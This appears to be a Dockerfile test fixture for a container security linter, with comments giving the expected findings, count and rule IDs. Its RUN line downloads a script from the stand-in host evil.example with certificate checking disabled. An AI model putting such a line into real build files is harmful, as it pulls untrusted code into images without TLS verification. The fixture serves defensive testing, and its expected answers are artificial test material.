FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN wget --no-check-certificate -O /z https://evil.example/x.sh
USER app
# expect: download 2 high "TLS checks off (--no-check-certificate)"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR301-472e20ef61 VR501-e064bac1a6
